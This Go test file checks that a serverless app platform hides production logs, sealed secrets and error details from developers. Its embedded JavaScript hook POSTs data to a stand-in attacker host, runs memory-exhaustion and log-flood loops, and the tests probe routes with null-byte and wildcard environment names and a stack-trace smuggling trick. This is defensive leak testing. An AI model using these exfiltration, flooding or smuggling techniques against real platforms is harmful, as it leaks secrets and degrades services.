package attack

import (
	"encoding/json"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// gossip says what it knows in every way that code has of saying something.
const gossip = `
const { fetch } = __annex_require("@annex/api");
const { kvs } = __annex_require("@annex/kvs");
class CANARYclass extends Error { constructor(m) { super(m); this.name = "CANARY-class"; this.code = "CANARY_CODE"; this.extra = { deep: "CANARY-field" }; this.status = "CANARY-status"; } }
async function hook(request) {
  const how = request.queryParameters.how[0];
  console.log("CANARY-line", { nested: ["CANARY-argument"] }, request);
  for (const level of ["debug", "info", "warn", "error"]) console[level]("CANARY-" + level, new CANARYclass("CANARY-logged"), process.env.SEALED);
  await kvs.set("CANARY-key", "CANARY-value");
  await kvs.setSecret("CANARY-secret-key", "CANARY-secret");
  try { await fetch("https://canary-host.evil.example/CANARY-path?CANARY-query", { method: "POST", body: "CANARY-body", headers: { "x-canary": "CANARY-header" } }); } catch (err) { if (how === "denied") throw err; console.log(err); }
  if (how === "throw") throw new CANARYclass("CANARY-message");
  if (how === "value") throw "CANARY-thrown";
  if (how === "object") throw { CANARY: "CANARY-object", message: "CANARY-message", stack: "CANARY-stack.js:1:1" };
  if (how === "stack") { const e = new TypeError("CANARY-type"); e.stack = "at CANARY (CANARY-file.js:1:1)"; throw e; }
  if (how === "frame") { const o = { ["CANARY-frame"]() { throw new RangeError("CANARY-range"); } }; o["CANARY-frame"](); }
  if (how === "cause") throw new Error("CANARY-outer", { cause: new Error("CANARY-cause") });
  if (how === "malformed") return { statusCode: "CANARY-code", body: { "CANARY": 1 } };
  if (how === "header") return { statusCode: 200, headers: { "CANARY-name": { a: "CANARY" } } };
  if (how === "output") return { outputKey: "CANARY-output" };
  if (how === "memory") { const all = ["CANARY-memory"]; for (;;) all.push(new Uint8Array(1 << 20).fill(1)); }
  if (how === "large") return { statusCode: 200, body: "CANARY".repeat(1 << 20) };
  if (how === "logs") for (;;) console.log("CANARY-flood");
  if (how === "kvs") await kvs.set("CANARY/bad key", "CANARY-value");
  if (how === "never") return new Promise(() => {});
  return { statusCode: 200, headers: { "x-answer": "CANARY-answer" }, body: "CANARY-answer " + process.env.SEALED };
}
`

// told is every spelling of the canary.
func told(text string) bool {
	return strings.Contains(strings.ToUpper(text), "CANARY")
}

// SPEC 9, CONTRACTS 2: in production a developer reads no logs, results, payloads or
// values, on no surface.
func TestAttackReadProductionLogs(t *testing.T) {
	t.Parallel()
	p := newPlatform(t)
	s := source{hooks: []string{"hook"}, code: gossip}
	at := p.deploy("production", s)
	vars := "/api/v1/apps/" + at.app + "/environments/production/variables/"
	if a := p.api("PUT", vars+"SEALED", at.developer, map[string]any{"value": "CANARY-sealed", "sealed": true}); a.status != 204 {
		t.Fatalf("%d %s", a.status, a.body)
	}
	address := at.hook("hook")
	hows := []string{"answer", "denied", "throw", "value", "object", "stack", "frame", "cause", "malformed", "header", "output", "memory", "large", "logs", "kvs", "never"}
	for _, how := range hows {
		a := p.ask("POST", address+"/CANARY-path?how="+how+"&q=CANARY-query", http.Header{"X-Canary": {"CANARY-header"}, "Content-Type": {"text/CANARY"}}, "CANARY-payload")
		if how == "answer" && (a.status != 200 || !strings.Contains(a.body, "CANARY-sealed")) {
			t.Fatalf("%d %s", a.status, a.body)
		}
		// Neither does the caller of the address learn what the app's failure said.
		if how != "answer" && told(a.body) {
			t.Errorf("%s: the caller is told %d %s", how, a.status, a.body)
		}
	}

	// What a developer knows of a call: its id, from the activity.
	var activity struct {
		Activity []map[string]any
		Calls    []map[string]any
	}
	p.api("GET", "/api/v1/activity?"+at.query(), at.developer, nil).must(t).into(t, &activity)
	ids := []string{""}
	for _, c := range activity.Calls {
		for name, v := range c {
			if id, ok := v.(string); ok && strings.HasPrefix(name, "invocation") {
				ids = append(ids, id)
			}
		}
	}
	if len(ids) < len(hows) || len(activity.Activity) == 0 {
		t.Fatalf("the activity has %d calls and %d counts", len(ids)-1, len(activity.Activity))
	}

	// What makes the function answer, if it were called.
	request := map[string]any{"queryParameters": map[string]any{"how": []string{"answer"}}}
	seen, refused := 0, 0
	look := func(method, path string, body any) {
		t.Helper()
		a := p.api(method, path, at.developer, body)
		if seen++; a.status >= 400 || a.status == http.StatusAccepted {
			refused++
		}
		if told(a.body) {
			t.Errorf("%s %s tells %d %.600s", method, path, a.status, a.body)
		}
		for name, values := range a.header {
			if told(name + strings.Join(values, "")) {
				t.Errorf("%s %s tells in %s: %s", method, path, name, values)
			}
		}
	}
	// Every route that a developer reaches, as the document has them.
	for _, o := range operations(t) {
		if !slices.Contains(o.roles, "developer") || o.method == "DELETE" {
			continue
		}
		path := strings.NewReplacer("{app}", at.app, "{environment}", "production", "{site}", at.site, "{installation}", at.installation, "{key}", "OTHER").Replace(o.path)
		body := at.target()
		body["function"], body["payload"], body["module"] = "hook", request, "hook"
		if o.body {
			look(o.method, path, body)
			look(o.method, path, at.target())
		} else {
			look(o.method, path+"?"+at.query(), nil)
			look(o.method, path, nil)
		}
	}
	// A trace, which a developer may know from an app's back end, opens no more than an invocation.
	var written struct{ Entries []struct{ Trace string } }
	p.api("GET", "/api/v1/logs?"+at.query(), at.admin, nil).must(t).into(t, &written)
	if len(written.Entries) == 0 || len(written.Entries[0].Trace) != 32 {
		t.Fatalf("the admin reads %+v", written)
	}
	trace := written.Entries[0].Trace
	invoke := at.target()
	invoke["function"], invoke["payload"] = "hook", request
	for _, environment := range []string{"production", "Production", "PRODUCTION", " production", "production ", "production\x00", "development", "staging", "%", "*"} {
		invoke["environment"] = environment
		look("POST", "/api/v1/invocations", invoke)
		for _, id := range ids[:3] {
			for _, more := range []url.Values{{}, {"cursor": {"0"}}, {"site": {at.site}}, {"since": {"2000-01-01T00:00:00Z"}, "limit": {"1000"}}, {"environment": {environment, "development"}}, {"shared": {"true"}}, {"trace": {trace}, "invocation": {""}}} {
				q := url.Values{"app": {at.app}, "environment": {environment}, "invocation": {id}}
				for k, v := range more {
					q[k] = v
				}
				look("GET", "/api/v1/logs?"+q.Encode(), nil)
				look("GET", "/api/v1/activity?"+q.Encode(), nil)
			}
		}
	}
	for _, id := range ids {
		look("GET", "/api/v1/logs?"+url.Values{"app": {at.app}, "environment": {"development"}, "invocation": {id}}.Encode(), nil)
	}
	// Deploying the same bytes elsewhere, promoting, listing: nothing that production stored goes with them.
	s.id = at.app
	p.upload(at.developer, s.parts("development"))
	development := at
	development.environment = "development"
	development = development.install()
	look("POST", "/api/v1/apps/"+at.app+"/promotions", map[string]string{"from": "production", "to": "staging"})
	look("GET", "/api/v1/logs?"+development.query(), nil)
	look("GET", vars[:len(vars)-1], nil)
	if seen < 300 || refused < 60 {
		t.Errorf("%d looks, %d of them refused", seen, refused)
	}

	// The site's own admin has the lines, so they were there to be found.
	admin, err := p.Admin(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	lines, err := p.System.Logs.Read(t.Context(), admin, productionLines(at))
	if raw, _ := json.Marshal(lines); err != nil || !strings.Contains(string(raw), "CANARY-line") {
		t.Errorf("the admin reads %.300s, %v", raw, err)
	}
	// The server's own log has places and codes, not what apps and their users say.
	for line := range strings.Lines(p.log.String()) {
		if strings.Contains(line, "CANARY") {
			t.Errorf("the server's log has %.500s", line)
		}
	}
}

// The place of an error is read from a stack, which is text of the app's own: with a map
// of many lines, a line's number says whatever the app wants to say.
func TestAttackTellByPlacesInProduction(t *testing.T) {
	p := newPlatform(t)
	for environment, told := range map[string]bool{"development": true, "production": false} {
		s := source{hooks: []string{"hook"}, code: `
function hook(request) {
  const e = new TypeError("no");
  e.stack = "    at x (app.js:" + (1 + Number(request.body)) + ":1)";
  throw e;
}`}
		many := part{"sourceMap", "", `{"version":3,"sources":["src/index.js"],"mappings":"AAAA` + strings.Repeat(";AACA", 60000) + `"}`}
		at := place{p: p, environment: environment, site: p.Access.Site, developer: p.Access.DeveloperToken, admin: p.Access.AdminToken}
		var made struct{ App string }
		p.upload(at.developer, append(s.parts(environment), many)).must(t).into(t, &made)
		at.app = made.App
		at = at.install()
		p.ask("POST", at.hook("hook"), nil, "48878")
		a := p.api("GET", "/api/v1/activity?"+at.query(), at.developer, nil).must(t)
		if !strings.Contains(a.body, "FUNCTION_ERR") {
			t.Errorf("%s: the activity has no call that failed: %s", environment, a.body)
		}
		if strings.Contains(a.body, "src/index.js:48879") != told {
			t.Errorf("%s: the activity has the place: %v, want %v: %s", environment, !told, told, a.body)
		}
	}
}
